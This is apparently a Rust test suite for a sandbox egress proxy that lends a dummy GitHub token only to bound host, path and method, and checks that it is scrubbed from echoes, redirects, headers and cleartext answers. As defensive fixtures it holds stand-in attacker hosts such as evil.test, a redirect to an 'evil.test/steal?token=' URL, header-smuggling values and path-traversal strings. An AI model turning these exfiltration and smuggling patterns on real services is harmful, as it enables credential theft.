//! Secrets: lent to exactly their requests, never back to the box, never to anybody else.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use blastbox_wire::egress::Record;
use bytes::Bytes;
use http::{Request, Response, StatusCode};
use http_body_util::{BodyExt, Full};
use hyper_util::rt::{TokioExecutor, TokioIo};

use crate::rig::World;
use crate::server::{answering, fixed, ok};

const TOKEN: &str = "ghp_TheRealToken0123456789abcdefXYZ";
const ALLOW: &str = r#"{ host = "api.github.com", ports = [PORT], tls = "inspect" },
 { host = "api.github.com.evil.test", ports = [PORT], tls = "inspect" }, { host = "evil.test", ports = [PORT], tls = "inspect" }"#;
const BIND: &str = r#"{ secret = "github", host = "api.github.com", port = PORT, paths = ["/repos/*", "/echo"], methods = ["GET"] }"#;
const STAND_IN: &str =
    r#"{ secret = "github", host = "api.github.com", port = PORT, placeholder = "ghp_", env = "GH_TOKEN" }"#;
const NAMES: &[&str] = &["api.github.com", "api.github.com.evil.test", "evil.test"];

pub(crate) struct Answer {
    pub(crate) status: StatusCode,
    pub(crate) headers: http::HeaderMap,
    pub(crate) body: Bytes,
    pub(crate) trailers: Option<http::HeaderMap>,
}

/// One request of the box over a connection of its own.
pub(crate) async fn ask(world: &World, name: &str, alpn: &[u8], request: Request<Full<Bytes>>) -> Answer {
    let stream = world.tls(name, alpn).await.unwrap();
    let io = TokioIo::new(stream);
    let response = if alpn == b"h2" {
        let (mut sender, connection) =
            hyper::client::conn::http2::handshake(TokioExecutor::new(), io).await.unwrap();
        tokio::spawn(connection);
        sender.send_request(request).await.unwrap()
    } else {
        let (mut sender, connection) = hyper::client::conn::http1::handshake(io).await.unwrap();
        tokio::spawn(connection);
        sender.send_request(request).await.unwrap()
    };
    let (parts, body) = response.into_parts();
    let body = body.collect().await.unwrap();
    let trailers = body.trailers().cloned();
    Answer { status: parts.status, headers: parts.headers, body: body.to_bytes(), trailers }
}

pub(crate) fn get(
    world: &World,
    name: &str,
    alpn: &[u8],
    path: &str,
    headers: &[(&str, &str)],
) -> Request<Full<Bytes>> {
    let authority = format!("{name}:{}", world.port);
    let mut builder = if alpn == b"h2" {
        Request::builder().uri(format!("https://{authority}{path}"))
    } else {
        Request::builder().uri(path).header("host", authority)
    };
    for (name, value) in headers {
        builder = builder.header(*name, *value);
    }
    builder.body(Full::default()).unwrap()
}

/// Says everything that it was sent, in every way that servers do.
fn echo(parts: &http::request::Parts, _body: &Bytes) -> Response<Full<Bytes>> {
    let sent = parts.headers.get("authorization").map_or("", |value| value.to_str().unwrap()).to_owned();
    let hex: String = sent.bytes().map(|byte| format!("{byte:02x}")).collect();
    let text = format!("{sent} {} {hex} {}", STANDARD.encode(&sent), sent.replace('_', "%5F"));
    let mut response = ok(text);
    response.headers_mut().insert("x-you-sent", sent.parse().unwrap());
    response.headers_mut().insert("set-cookie", format!("session={sent}; path=/").parse().unwrap());
    response
}

fn holds(bytes: &[u8], part: &str) -> bool {
    bytes.windows(part.len()).any(|window| window == part.as_bytes())
}

#[tokio::test]
async fn a_secret_goes_up_and_never_comes_back() {
    for alpn in [&b"http/1.1"[..], b"h2"] {
        let world = World::new(ALLOW, BIND, &[("github", TOKEN)]).await;
        let seen = answering(&world, NAMES, &[b"h2", b"http/1.1"], echo);
        let request = get(
            &world,
            "api.github.com",
            alpn,
            "/echo",
            &[("authorization", "Bearer mine"), ("range", "bytes=0-3"), ("accept-encoding", "gzip")],
        );
        let answer = ask(&world, "api.github.com", alpn, request).await;
        {
            let seen = seen.lock().unwrap();
            let sent: Vec<_> = seen[0].0.headers.get_all("authorization").iter().collect();
            assert_eq!(sent, [&format!("Bearer {TOKEN}")]);
            assert_eq!(seen[0].0.headers["accept-encoding"], "identity");
            assert!(!seen[0].0.headers.contains_key("range"));
        }
        assert_eq!(answer.status, StatusCode::OK);
        let hex: String = TOKEN.bytes().map(|byte| format!("{byte:02x}")).collect();
        for form in [TOKEN, &hex, &STANDARD.encode(format!("Bearer {TOKEN}"))[12..40]] {
            assert!(!holds(&answer.body, form), "{form}: {:?}", answer.body);
            assert!(!format!("{:?}", answer.headers).contains(form), "{form}");
        }
        assert!(holds(&answer.body, "Bearer ***"), "{:?}", answer.body);
        assert_eq!(world.lent(), ["github api.github.com GET /echo"]);
        // In no record either.
        assert!(!format!("{:?}", world.records()).contains(TOKEN));
    }
}

#[tokio::test]
async fn no_other_host_path_or_method_gets_it() {
    let world = World::new(ALLOW, BIND, &[("github", TOKEN)]).await;
    let seen = answering(&world, NAMES, &[], echo);
    for (name, path) in [
        ("api.github.com.evil.test", "/echo"),
        ("evil.test", "/repos/x"),
        ("api.github.com", "/user"),
        ("api.github.com", "/repos"),
        // Ambiguous paths are of no binding that has paths.
        ("api.github.com", "/repos/../user"),
        ("api.github.com", "/repos/%2e%2e/user"),
    ] {
        let answer = ask(&world, name, b"http/1.1", get(&world, name, b"http/1.1", path, &[])).await;
        assert_eq!(answer.status, StatusCode::OK, "{name}{path}");
    }
    let mut post = get(&world, "api.github.com", b"http/1.1", "/echo", &[]);
    *post.method_mut() = http::Method::POST;
    ask(&world, "api.github.com", b"http/1.1", post).await;
    for (parts, body) in seen.lock().unwrap().iter() {
        assert!(!parts.headers.contains_key("authorization"), "{}", parts.uri);
        assert!(!holds(body, TOKEN));
    }
    assert_eq!(world.lent(), [] as [String; 0]);
}

/// The published pattern: a proxy that takes the target from a header and checks it by its beginning. There is no such
/// header here, and nothing that a guest writes changes where a secret goes.
#[tokio::test]
async fn a_target_in_a_header_is_just_a_header() {
    let world = World::new(ALLOW, BIND, &[("github", TOKEN)]).await;
    let seen = answering(&world, NAMES, &[], echo);
    for target in
        ["https://api.github.com.evil.test", "https://api.github.com@evil.test", "https://evil.test"]
    {
        let headers =
            [("x-forward-to", target), ("x-forwarded-host", "evil.test"), ("x-original-url", "/admin")];
        let request = get(&world, "api.github.com", b"http/1.1", "/repos/x", &headers);
        ask(&world, "api.github.com", b"http/1.1", request).await;
        let request =
            get(&world, "evil.test", b"http/1.1", "/repos/x", &[("x-forward-to", "https://api.github.com")]);
        ask(&world, "evil.test", b"http/1.1", request).await;
    }
    for (parts, _) in seen.lock().unwrap().iter() {
        let host = parts.headers["host"].to_str().unwrap();
        assert_eq!(
            host.starts_with("api.github.com:"),
            parts.headers.contains_key("authorization"),
            "{host}"
        );
        assert!(
            !parts.headers.contains_key("x-forwarded-host") && !parts.headers.contains_key("x-original-url")
        );
    }
}

#[tokio::test]
async fn a_redirect_is_handed_back_and_carries_nothing() {
    let world = World::new(ALLOW, BIND, &[("github", TOKEN)]).await;
    let seen = answering(&world, NAMES, &[], |parts, _| {
        let mut response = ok("");
        if parts.headers["host"].to_str().unwrap().starts_with("api.") {
            *response.status_mut() = StatusCode::TEMPORARY_REDIRECT;
            let sent = parts.headers["authorization"].to_str().unwrap().replace(' ', "+");
            let place = format!("https://evil.test/steal?token={sent}");
            response.headers_mut().insert("location", place.parse().unwrap());
        }
        response
    });
    let request = get(&world, "api.github.com", b"http/1.1", "/repos/x", &[]);
    let answer = ask(&world, "api.github.com", b"http/1.1", request).await;
    assert_eq!(answer.status, StatusCode::TEMPORARY_REDIRECT);
    let place = answer.headers["location"].to_str().unwrap().to_owned();
    assert!(
        place.starts_with("https://evil.test/steal?token=Bearer+***") && !place.contains(TOKEN),
        "{place}"
    );
    assert_eq!(seen.lock().unwrap().len(), 1);
    // The guest follows it by itself: what it sends is what it has.
    let path = place.strip_prefix("https://evil.test").unwrap();
    ask(&world, "evil.test", b"http/1.1", get(&world, "evil.test", b"http/1.1", path, &[])).await;
    let seen = seen.lock().unwrap();
    assert!(!seen[1].0.headers.contains_key("authorization") && !seen[1].0.uri.to_string().contains(TOKEN));
}

#[tokio::test]
async fn a_stand_in_becomes_the_secret_at_home_and_is_stopped_elsewhere() {
    let world = World::new(ALLOW, STAND_IN, &[("github", TOKEN)]).await;
    let seen = answering(&world, NAMES, &[], echo);
    let (variable, stand_in) = world.variables[0].clone();
    assert_eq!(variable, "GH_TOKEN");
    assert!(stand_in.starts_with("ghp_bbx") && !stand_in.contains(TOKEN));

    let bearer = format!("token {stand_in}");
    let login = format!("Basic {}", STANDARD.encode(format!("x-access-token:{stand_in}")));
    for value in [&bearer, &login] {
        let request = get(&world, "api.github.com", b"http/1.1", "/any", &[("authorization", value)]);
        let answer = ask(&world, "api.github.com", b"http/1.1", request).await;
        assert_eq!(answer.status, StatusCode::OK);
        assert!(!holds(&answer.body, TOKEN));
    }
    {
        let seen = seen.lock().unwrap();
        assert_eq!(seen[0].0.headers["authorization"], format!("token {TOKEN}"));
        let login = format!("Basic {}", STANDARD.encode(format!("x-access-token:{TOKEN}")));
        assert_eq!(seen[1].0.headers["authorization"], login);
    }
    // To another host, in another header, in a query: stopped.
    let query = format!("/any?key={stand_in}");
    for (name, path, header, value) in [
        ("evil.test", "/any", "authorization", &bearer),
        ("evil.test", "/any", "authorization", &login),
        ("evil.test", "/any", "x-note", &stand_in),
        ("evil.test", &query, "x-note", &variable),
        ("api.github.com", "/any", "x-note", &stand_in),
        ("api.github.com", &query, "x-note", &variable),
    ] {
        let request = get(&world, name, b"http/1.1", path, &[(header, value)]);
        let answer = ask(&world, name, b"http/1.1", request).await;
        assert_eq!(answer.status, StatusCode::FORBIDDEN, "{name}{path} {header}");
        assert!(holds(&answer.body, "\"reason\":\"credential-misplaced\""), "{:?}", answer.body);
    }
    assert_eq!(seen.lock().unwrap().len(), 2);
    assert!(world.denials().contains(&"credential-misplaced"));
    // In a body it is a text like any other: agents quote their own output.
    let mut request = get(&world, "evil.test", b"http/1.1", "/any", &[]);
    *request.method_mut() = http::Method::POST;
    *request.body_mut() = Full::from(stand_in.clone());
    assert_eq!(ask(&world, "evil.test", b"http/1.1", request).await.status, StatusCode::OK);
    assert_eq!(seen.lock().unwrap()[2].1, stand_in);
}

/// Compressed, or a piece that is shorter than any secret, though all of it was asked for, plain.
#[tokio::test]
async fn an_answer_that_cannot_be_scrubbed_is_not_handed_on() {
    for answer in [
        "200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 4\r\n\r\n\x1f.\x08\0",
        "200 OK\r\nTransfer-Encoding: gzip\r\n\r\n\x1f.\x08\0",
        "200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n4\r\n\x1f.\x08\0\r\n0\r\n\r\n",
        "206 Partial Content\r\nContent-Length: 4\r\n\r\nghp_",
        "200 OK\r\nContent-Range: bytes 0-3/40\r\nContent-Length: 4\r\n\r\nghp_",
        "200 OK\r\nContent-Type: multipart/byteranges; boundary=x\r\nContent-Length: 4\r\n\r\nghp_",
    ] {
        let world = World::new(ALLOW, BIND, &[("github", TOKEN)]).await;
        fixed(&world, NAMES, format!("HTTP/1.1 {answer}").into_bytes());
        let parts = [("range", "bytes=0-3"), ("request-range", "bytes=0-3")];
        let request = get(&world, "api.github.com", b"http/1.1", "/echo", &parts);
        let handed = ask(&world, "api.github.com", b"http/1.1", request).await;
        assert_eq!(handed.status, StatusCode::BAD_GATEWAY, "{answer:?}");
        assert!(holds(&handed.body, "broken-upstream"), "{answer:?}: {:?}", handed.body);
        // Told once, by whoever answers.
        let told = world.denials().iter().filter(|reason| **reason == "broken-upstream").count();
        assert_eq!(told, 1, "{answer:?}");
    }
}

#[tokio::test]
async fn a_servers_own_word_for_a_status_does_not_carry_the_secret() {
    let world = World::new(ALLOW, BIND, &[("github", TOKEN)]).await;
    let answer = format!("HTTP/1.1 200 {TOKEN}\r\nX-{TOKEN}: 1\r\nContent-Length: 0\r\n\r\n").into_bytes();
    fixed(&world, NAMES, answer);
    let mut stream = world.tls("api.github.com", b"http/1.1").await.unwrap();
    let head =
        format!("GET /echo HTTP/1.1\r\nHost: api.github.com:{}\r\nConnection: close\r\n\r\n", world.port);
    let mut answer = Vec::new();
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    stream.write_all(head.as_bytes()).await.unwrap();
    stream.read_to_end(&mut answer).await.ok();
    let text = String::from_utf8_lossy(&answer).to_ascii_lowercase();
    assert!(text.starts_with("http/1.1 200 ok\r\n"), "{text}");
    assert!(!text.contains(&TOKEN.to_ascii_lowercase()), "{text}");
}

#[tokio::test]
async fn a_secret_whose_use_cannot_be_recorded_is_not_used() {
    let world = World::new(ALLOW, BIND, &[("github", TOKEN)]).await;
    let seen = answering(&world, NAMES, &[], echo);
    // The engine does not read: more than may ever wait.
    for _ in 0..5000 {
        world.house.reporter().tell(Record::Lost { count: 1 });
    }
    let request = || get(&world, "api.github.com", b"http/1.1", "/echo", &[]);
    let answer = ask(&world, "api.github.com", b"http/1.1", request()).await;
    assert_eq!(answer.status, StatusCode::SERVICE_UNAVAILABLE);
    assert!(holds(&answer.body, "\"reason\":\"not-recorded\""), "{:?}", answer.body);
    assert_eq!(seen.lock().unwrap().len(), 0);
    // It reads again.
    assert_eq!(world.lent(), [""; 0]);
    let answer = ask(&world, "api.github.com", b"http/1.1", request()).await;
    assert_eq!(answer.status, StatusCode::OK);
    assert_eq!(world.lent(), ["github api.github.com GET /echo"]);
}

/// The same host in the clear, where a server may keep what it was sent before by TLS.
#[tokio::test]
async fn in_the_clear_the_host_of_a_secret_is_scrubbed_too() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let allow = r#"{ host = "a.test", tls = "inspect" }, { host = "a.test", ports = [PORT], protocol = "http" },
 { host = "b.test", ports = [PORT], protocol = "http" }"#;
    let world = World::new(allow, r#"{ secret = "github", host = "a.test" }"#, &[("github", TOKEN)]).await;
    let listener = world.listener();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let mut head = Vec::new();
            while !head.ends_with(b"\r\n\r\n") {
                head.push(stream.read_u8().await.unwrap());
            }
            let head = String::from_utf8(head).unwrap().to_ascii_lowercase();
            let encoding = if head.starts_with("get /gzip") { "Content-Encoding: gzip\r\n" } else { "" };
            let whole = !head.contains("\r\nrange:") && head.contains("\r\naccept-encoding: identity\r\n");
            assert!(!head.contains(&TOKEN.to_ascii_lowercase()));
            let body = format!("stored {TOKEN} {whole}");
            let answer = format!(
                "HTTP/1.1 200 OK\r\n{encoding}Set-Cookie: it={TOKEN}\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            );
            stream.write_all(answer.as_bytes()).await.unwrap();
        }
    });
    let ask = async |name: &str, path: &str| {
        let mut stream = world.connect(name).await.unwrap();
        let head = format!(
            "GET {path} HTTP/1.1\r\nHost: {name}:{}\r\nRange: bytes=8-\r\nAccept-Encoding: gzip\r\n\
             Connection: close\r\n\r\n",
            world.port
        );
        stream.write_all(head.as_bytes()).await.unwrap();
        let mut answer = String::new();
        stream.read_to_string(&mut answer).await.unwrap();
        answer
    };
    let answer = ask("a.test", "/stored").await;
    assert!(answer.starts_with("HTTP/1.1 200 OK") && !answer.contains(TOKEN), "{answer}");
    assert!(answer.ends_with(&format!("stored {} true", "*".repeat(TOKEN.len()))), "{answer}");
    let answer = ask("a.test", "/gzip").await;
    assert!(answer.starts_with("HTTP/1.1 502 ") && answer.contains("cannot be scrubbed"), "{answer}");
    // Where no secret goes, nothing is changed.
    let answer = ask("b.test", "/stored").await;
    assert!(answer.ends_with(&format!("stored {TOKEN} false")), "{answer}");
    assert_eq!(world.lent(), [""; 0]);
}
